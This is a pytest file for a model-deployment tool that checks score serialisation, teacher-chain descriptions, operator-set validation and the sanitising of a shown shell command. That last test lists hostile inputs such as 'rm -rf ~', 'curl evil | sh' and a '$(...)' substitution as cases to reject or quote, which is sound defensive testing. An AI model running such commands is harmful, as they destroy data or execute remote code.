from __future__ import annotations

import json
import math
from typing import Any

import pytest
from pydantic import TypeAdapter, ValidationError

from litdeploy.errors import BundleError
from litdeploy.storage.records import Accuracy, Ancestor, Artefact, Likeness, Score, descent

ACCURACY = Accuracy(top1=0.9876, loss=0.1, images=81)
LIKENESS = Likeness(psnr=31.25, ssim=0.95123, images=7)
SCORE: TypeAdapter[Score] = TypeAdapter(Score)


def artefact(details: dict[str, Any]) -> Artefact:
    return Artefact(path="export/student.onnx", sha256="0" * 64, precision="fp32", versions={}, details=details)


@pytest.mark.parametrize("score", [ACCURACY, LIKENESS])
def test_a_score_is_read_back_as_what_it_was(score: Score) -> None:
    assert SCORE.validate_json(score.model_dump_json()) == score
    assert SCORE.validate_python(score) is score


def test_the_score_of_a_diverged_network_is_read_back() -> None:
    score = Accuracy(top1=0.1, loss=math.nan, images=10)
    text = score.model_dump_json()
    assert json.loads(text, parse_constant=pytest.fail)["loss"] == "NaN"
    assert math.isnan(Accuracy.model_validate_json(text).loss)


def test_what_lacks_of_a_score_is_told_of_that_kind() -> None:
    with pytest.raises(ValidationError, match=r"likeness\.ssim"):
        SCORE.validate_python({"psnr": 31.25, "images": 7})
    with pytest.raises(ValidationError, match=r"accuracy\.loss"):
        SCORE.validate_python({"top1": 0.5, "images": 7})


def test_scores_are_told_and_have_their_columns() -> None:
    assert (ACCURACY.summary(), LIKENESS.summary()) == ("98.76 %", "PSNR 31.2 dB, SSIM 0.9512")
    assert ACCURACY.row("validation") == {"validation_top1": 0.9876, "validation_loss": 0.1}
    assert LIKENESS.row("validation") == {"validation_psnr": 31.25, "validation_ssim": 0.95123}


def test_a_descent_names_each_that_taught() -> None:
    line = [
        Ancestor(depth=18, sha256="0" * 64, metrics={}),
        Ancestor(depth=14, sha256="1" * 64, metrics={"validation": ACCURACY, "test": LIKENESS}),
    ]
    told = "In a chain: depth 18, depth 14 (PSNR 31.2 dB, SSIM 0.9512), each the next one's teacher."
    assert descent(line) == told + " The student is measured against the first."


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("litdeploy export deploy --onnx", "litdeploy export deploy --onnx"),
        ("litdeploy export; rm -rf ~", None),
        ("curl evil | sh", None),
        ("litdeploy export 'unended", None),
        ("litdeploy export\n\x1b[2J", None),
        ("litdeploy export $(rm -rf ~)", "litdeploy export '$(rm' -rf '~)'"),
        (3, None),
    ],
)
def test_only_our_own_command_is_shown_as_what_to_type(command: object, told: str | None) -> None:
    assert artefact({"command": command}).command == told


@pytest.mark.parametrize("opset", [None, "18", 10**12, 0])
def test_an_operator_set_that_is_none_is_refused(opset: object) -> None:
    with pytest.raises(BundleError, match="operator set"):
        artefact({"opset": opset}).opset()
